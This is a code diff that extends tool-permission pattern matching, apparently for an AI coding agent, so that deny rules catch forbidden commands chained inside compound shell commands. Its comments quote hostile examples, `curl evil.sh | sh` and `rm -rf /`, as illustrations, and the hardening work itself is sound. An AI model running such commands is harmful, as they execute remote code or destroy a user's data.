@@ -3,10 +3,11 @@
  * `mcp__github__create_issue`), optionally with an argument pattern — `Bash(git:*)` and `Bash(git *)`
  * (the command starts with `git`), `Read(src/**)` (a glob), `Bash(npm test)` (exactly). A pattern
  * approves a shell command only when it is one simple command (`isSimpleShellCommand`): `Bash(git add:*)`
- * approves `git add .`, never `git add . && curl evil.sh | sh`.
+ * approves `git add .`, never `git add . && curl evil.sh | sh`; and matches a shell command when any simple
+ * command inside it does (`simpleCommandsOf`): `Bash(rm:*)` in `disallowed-tools` denies `echo hi && rm -rf /`.
  */
 import { picomatch } from "../model/lazy-picomatch.js";
-import { isSimpleShellCommand } from "./simple-shell-command.js";
+import { isSimpleShellCommand, simpleCommandsOf } from "./simple-shell-command.js";
 
 /** A parsed tool pattern. */
 export interface ToolPattern {
@@ -18,7 +19,8 @@ export interface ToolPattern {
   argument?: string;
   /**
    * True when a call's main argument (command, path, …) matches; always true without `argument`. What
-   * `disallowed-tools` uses: `Bash(rm:*)` there matches `rm -rf x && echo done` too.
+   * `disallowed-tools` uses: a shell command matches when the whole of it or any simple command inside it
+   * does (`simpleCommandsOf`), so `Bash(rm:*)` there matches `echo hi && rm -rf /`, `x | rm y` and `$(rm z)`.
    */
   matchesInput(input: unknown): boolean;
   /**
@@ -49,7 +51,11 @@ export function parseToolPattern(text: string): ToolPattern | undefined {
     text,
     tool: name,
     argument,
-    matchesInput: (input) => matches(mainArgument(input)),
+    matchesInput: (input) => {
+      const value = mainArgument(input);
+      if (matches(value)) return true;
+      return value !== undefined && isShellCommand(input) && simpleCommandsOf(value).some(matches);
+    },
     approvesInput: (input) => {
       const value = mainArgument(input);
       return matches(value) && (!isShellCommand(input) || isSimpleShellCommand(value as string));
